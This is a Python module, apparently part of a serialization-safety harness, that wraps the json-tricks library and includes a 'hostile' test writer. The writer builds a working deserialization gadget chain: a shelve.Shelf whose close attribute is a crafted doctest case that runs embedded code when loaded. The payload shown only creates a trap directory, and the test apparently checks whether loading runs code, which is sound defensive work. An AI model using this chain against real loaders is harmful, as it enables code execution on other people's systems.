"""json-tricks: arrays as lists with dtype and shape, or compact: base64 where that is smaller.

Compact, bytes are compressed with gzip as well if that makes them smaller, so that most arrays are
compressed in vain. With ``preserve_order`` off, dicts come back as dicts.

The reader makes an object of any class that a document names, without calling ``__init__``, and
gives it any attributes. That suffices to run code, with the standard library alone.
"""

import json
from functools import partial
from pathlib import Path
from typing import Any

import json_tricks

from contract import Method, Trap
from method_kit.documents import FILE, as_text, json_method

# Without the byte order, big-endian arrays in base64 come back with other numbers, silently.
_COMPACT = {"ndarray_compact": True, "ndarray_store_byteorder": "suppress"}


def _dumps(data: Any, **options: Any) -> str:
    document: str = json_tricks.dumps(data, allow_nan=True, **options)
    return document


def _loads(document: str | bytes) -> Any:
    return json_tricks.loads(as_text(document), preserve_order=False)


def _instance(module: str, class_name: str, **attributes: Any) -> dict[str, Any]:
    return {"__instance_type__": [module, class_name], "attributes": attributes}


def _write_instances(trap: Trap, folder: Path) -> None:
    """Write a document that asks for a shelf, of which nobody keeps hold.

    When a shelf goes, it closes itself: it calls its attribute ``close``. Here that is a doctest,
    which a call runs, and its example is the attacker's code.
    """
    code = f"import os; os.mkdir({trap.path!r})\n"
    example = _instance(
        "doctest", "Example", source=code, want="", exc_msg=None, lineno=0, indent=0, options={}
    )
    test = _instance(
        "doctest",
        "DocTest",
        **{"examples": [example], "docstring": "", "globs": {}},
        **{"name": "", "filename": "", "lineno": 0},
    )
    nothing = ("_outcome", "_subtest", "_testMethodDoc", "_dt_checker", "_dt_setUp", "_dt_tearDown")
    case = _instance(
        "doctest",
        "DocTestCase",
        **dict.fromkeys(nothing),
        **{"_testMethodName": "runTest", "_cleanups": [], "_type_equality_funcs": {}},
        **{"_dt_test": test, "_dt_optionflags": 0, "_dt_globs": {}},
    )
    shelf = _instance("shelve", "Shelf", writeback=False, close=case)
    # an empty set, beside which the hook for sets drops whatever else there is
    (folder / FILE).write_text(json.dumps({"__set__": [], "dropped": shelf}), encoding="ascii")


def _method(name: str, label: str, human_readable: bool, **options: Any) -> Method:
    return json_method(
        name,
        label,
        partial(_dumps, **options),
        _loads,
        lists_for_deques=True,
        human_readable=human_readable,
        hostile=_write_instances,
    )


METHODS = (
    _method("json_tricks", "json-tricks", True),
    _method("json_tricks_compact", "json-tricks, compact", False, properties=_COMPACT),
)
